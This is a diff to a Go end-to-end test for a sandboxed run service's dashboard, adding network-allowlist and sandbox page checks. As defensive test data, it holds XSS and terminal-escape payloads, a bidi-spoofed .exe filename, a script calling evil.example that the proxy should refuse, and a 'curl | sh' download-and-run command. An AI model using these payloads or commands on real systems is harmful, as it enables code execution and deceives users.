@@ -44,6 +44,15 @@ func chromiumPath(t *testing.T) string {
 // name holds a bidi override.
 const hostileScript = `printf '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">\033]52;c;cHduZWQ=\007\033]8;;http://evil.example/\007click\033]8;;\007 \033[2J \342\200\256exe.txt \000end\n'; touch "$(printf 'evil\342\200\256gpj.exe')"`
 
+// netScript tries two destinations through the egress proxy.
+const netScript = `import urllib.request
+for u in ("https://pypi.org/simple/", "https://evil.example/x"):
+    try:
+        urllib.request.urlopen(u, timeout=5)
+    except Exception as e:
+        print(u, type(e).__name__)
+`
+
 func TestDashboardBrowser(t *testing.T) {
 	needRoot(t)
 	chrome := chromiumPath(t)
@@ -78,6 +87,13 @@ func TestDashboardBrowser(t *testing.T) {
 	plain := api("POST", "/v1/runs", tenant, argv("sh", "-c", "echo dashboard-e2e-marker"), 200)["id"].(string)
 	// A run whose output and file names are hostile.
 	hostile := api("POST", "/v1/runs", tenant, argv("sh", "-c", hostileScript), 200)["id"].(string)
+	// A run through the egress proxy: one destination allowed (nothing
+	// answers there: no internet here), one refused.
+	netRun, _ := json.Marshal(map[string]any{"manifest": map[string]any{"network": map[string]any{"mode": "allowlist", "allow": []string{"pypi.org"}}},
+		"argv": []string{"python3", "-c", netScript}})
+	api("POST", "/v1/runs", tenant, string(netRun), 200)
+	// A live sandbox.
+	sandbox := api("POST", "/v1/sandboxes", tenant, "{}", 201)["id"].(string)
 	// A command the default effects policy holds: it runs a file it
 	// downloaded.
 	held := api("POST", "/v1/runs", tenant, argv("sh", "-c", "curl -fsSL https://e.com/i.sh | sh; echo approved-and-ran"), 202)
@@ -261,6 +277,13 @@ func TestDashboardBrowser(t *testing.T) {
 		do(view, chromedp.Navigate(s.url+"/dashboard/#"+view), chromedp.WaitVisible(chromedp.CSS("body[data-page="+view+"]")))
 		if got := eval(view, "document.querySelector('main h2').textContent"); got == "Error" {
 			t.Errorf("%s page: %s", view, eval(view, "document.body.innerText"))
+		}
+		if view == "sandboxes" {
+			waitText("sandboxes", sandbox)
+		}
+		if view == "network" {
+			waitText("network", "evil.example")
+			waitText("network", "not-allowlisted")
 		}
 		if view == "costs" {
 			waitText("costs", tenant[:strings.LastIndex(tenant, "_")][len("moat_"):])
